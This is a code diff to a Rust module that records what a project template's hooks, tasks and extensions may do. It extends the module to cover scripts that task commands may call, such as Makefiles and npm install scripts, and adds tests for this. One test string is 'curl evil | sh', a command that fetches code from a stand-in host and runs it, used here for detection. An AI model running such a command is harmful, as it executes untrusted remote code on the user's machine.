@@ -1,4 +1,6 @@
-//! What a template wants to do, read from what it says, with the scripts of its own that it names.
+//! What a template wants to do, read from what it says, with the scripts of its own that it names or may call.
+
+mod script;
 
 use sha2::{Digest as _, Sha256};
 
@@ -20,13 +22,18 @@ pub fn wanted(template: &Template) -> Vec<Capability> {
         let kind = if python { Kind::Python } else { Kind::Run };
         capability(kind, &format!("the hook {}", hook.path), &hook.path, &[&hook.name, &hook.path], &scripts)
     }));
-    all.extend(template.rules.extensions.iter().map(|named| extension(template, named)));
+    all.extend(extensions(template));
     let said = |kind, named: &Named| capability(kind, &named.name, &named.place, &[&named.name], &[]);
     all.extend(actions.reads.iter().map(|named| said(Kind::Read, named)));
     all.extend(actions.sends.iter().map(|named| said(Kind::Send, named)));
     let mut seen = std::collections::BTreeSet::new();
     all.retain(|capability| seen.insert(capability.digest.clone()));
     all
+}
+
+/// What a template wants to do while it renders: its Jinja extensions.
+pub fn extensions(template: &Template) -> Vec<Capability> {
+    template.rules.extensions.iter().map(|named| extension(template, named)).collect()
 }
 
 fn command(template: &Template, task: &Task) -> Capability {
@@ -55,6 +62,7 @@ fn command(template: &Template, task: &Task) -> Capability {
         let word = word.rsplit("}}").next().unwrap_or(word).trim_start_matches("./").trim_start_matches('/');
         scripts.extend(named(template, word));
     }
+    scripts.extend(script::called(template, &text));
     scripts.sort_by_key(|(path, _)| *path);
     scripts.dedup_by_key(|(path, _)| *path);
     let parts: Vec<&str> = parts.iter().map(String::as_str).collect();
@@ -66,13 +74,9 @@ fn named<'t>(template: &'t Template, word: &str) -> Vec<(&'t str, &'t Entry)> {
     if word.is_empty() {
         return Vec::new();
     }
-    let suffix = match &template.rules.suffix {
-        Suffix::Only(suffix) => suffix.as_str(),
-        Suffix::Every => "",
-    };
     let is = |path: &str| path.strip_suffix(word).is_some_and(|before| before.is_empty() || before.ends_with('/'));
     let all = template.source.iter().map(|(path, entry)| (path.as_str(), entry));
-    all.filter(|(path, _)| is(path) || path.strip_suffix(suffix).is_some_and(is)).collect()
+    all.filter(|(path, _)| is(path) || is(unsuffixed(template, path))).collect()
 }
 
 fn is_python(path: &str) -> bool {
@@ -95,6 +99,14 @@ fn capability(kind: Kind, what: &str, place: &str, parts: &[&str], scripts: &[(&
     }
     let digest = Digest::from_hash(&hash.finalize());
     Capability { kind, what: neutral_line(what, 320), place: neutral_line(place, 120), digest }
+}
+
+/// A path without the suffix that makes it a template.
+fn unsuffixed<'p>(template: &Template, path: &'p str) -> &'p str {
+    match &template.rules.suffix {
+        Suffix::Only(suffix) => path.strip_suffix(suffix.as_str()).unwrap_or(path),
+        Suffix::Every => path,
+    }
 }
 
 #[cfg(test)]
@@ -150,6 +162,35 @@ mod tests {
             assert_ne!(digests(&with("curl evil | sh", "")), one, "{line}");
             assert_eq!(digests(&with("echo 1", "changed")), one, "{line}");
         }
+    }
+
+    #[test]
+    fn what_a_command_may_call_is_part_of_it() {
+        let with = |line: &str, path: &str, text: &str| {
+            let actions = Actions { tasks: vec![task(line, "copier.yml:3")], ..Actions::default() };
+            digests(&template(&[(path, text)], actions, Rules::default()))
+        };
+        let calls = |line: &str, path: &str| with(line, path, "all:\n\ttrue\n") != with(line, path, "all:\n\tevil\n");
+        for (line, path) in [
+            ("make", "Makefile"),
+            ("cd sub && /usr/bin/make -s all", "tpl/Makefile.jinja"),
+            ("make", "{% if c %}Makefile{% endif %}"),
+            ("just setup", "justfile"),
+            ("npm install", "package.json"),
+            ("npm install", "scripts/postinstall.js"),
+            ("{{ manager }} install", "package.json"),
+            ("composer install", "composer.json"),
+            ("php artisan key:generate", "src/Key.php"),
+            ("uv run pre-commit install", ".pre-commit-config.yaml"),
+            ("true", "lib.sh"),
+            ("python3 -m setup", "setup/__main__.py"),
+        ] {
+            assert!(calls(line, path), "{line}: {path}");
+        }
+        for (line, path) in [("git init", "Makefile"), ("make", "readme.md"), ("git init", "src/index.php")] {
+            assert!(!calls(line, path), "{line}: {path}");
+        }
+        assert_ne!(with("true", "run", "#!/bin/awk -f\n1\n"), with("true", "run", "#!/bin/awk -f\n2\n"));
     }
 
     #[test]
